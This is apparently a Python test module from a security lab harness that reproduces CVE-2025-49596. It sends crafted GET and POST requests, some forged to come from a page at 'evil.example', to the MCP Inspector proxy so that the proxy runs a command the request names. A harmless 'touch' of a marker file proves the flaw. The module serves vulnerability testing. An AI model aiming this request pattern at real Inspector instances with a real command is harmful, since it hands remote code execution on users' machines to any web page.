"""The Inspector's proxy, which starts the command that a request names, whoever sends it."""

import urllib.parse

from attack import Attack, Http, module, program
from lab import Lab, free_port
from request import INITIALIZE, bearer, request
from session import Session


def prepare(lab: Lab) -> None:
    lab.write("inside/welcome.md", "Welcome.\n")


def server(lab: Lab) -> Http:
    port = free_port()
    files = module("filesystem", "@modelcontextprotocol/server-filesystem/dist/index.js")
    wanted = {"transportType": "stdio", "command": program("node"), "args": f"{files} {lab.inside}"}
    return Http(
        program("node"),
        [str(module("inspector", "@modelcontextprotocol/inspector-server/build/index.js"))],
        lab.inside,
        port,
        {"PORT": str(port), "SERVER_PORT": str(port)},
        "/mcp?" + urllib.parse.urlencode(wanted),
    )


async def ordinary(session: Session, lab: Lab) -> None:
    await session.expect("Welcome.", "read_file", path=f"{lab.inside}/welcome.md")


async def attack(session: Session, lab: Lab) -> None:
    """As a page that the user has open does, and as somebody does who has a token besides."""
    address = urllib.parse.urlsplit(session.endpoint)
    ways = [("GET", "/stdio"), ("GET", "/sse"), ("POST", "/mcp"), *((method, address.path + end) for method in ("GET", "POST") for end in ("", "/mcp"))]
    for number, (method, path) in enumerate(ways):
        wanted = {"transportType": "stdio", "command": "touch", "args": f"{lab.folder}/mark-{number}"}
        url = f"http://{address.netloc}{path}?{urllib.parse.urlencode(wanted)}"
        message = INITIALIZE if method == "POST" else None
        for who in ({}, bearer(session.token)):
            for origin in ({"Origin": "http://evil.example"}, {}):
                session.heard.append(request(method, url, {**who, **origin}, message).text)


def happened(_: Session, lab: Lab) -> bool:
    return any(lab.folder.glob("mark-*"))


ATTACKS = (
    Attack(
        name="inspector-command",
        ids="CVE-2025-49596",
        package="@modelcontextprotocol/inspector-server@0.14.0",
        what="starts a command that a web page names",
        prepare=prepare,
        server=server,
        ordinary=ordinary,
        attack=attack,
        happened=happened,
        no_sandbox="the proxy runs by itself, and its own port stays open to whoever reaches it: the gateway is what others are shown in its place",
        needs=("inspector", "filesystem"),
    ),
)
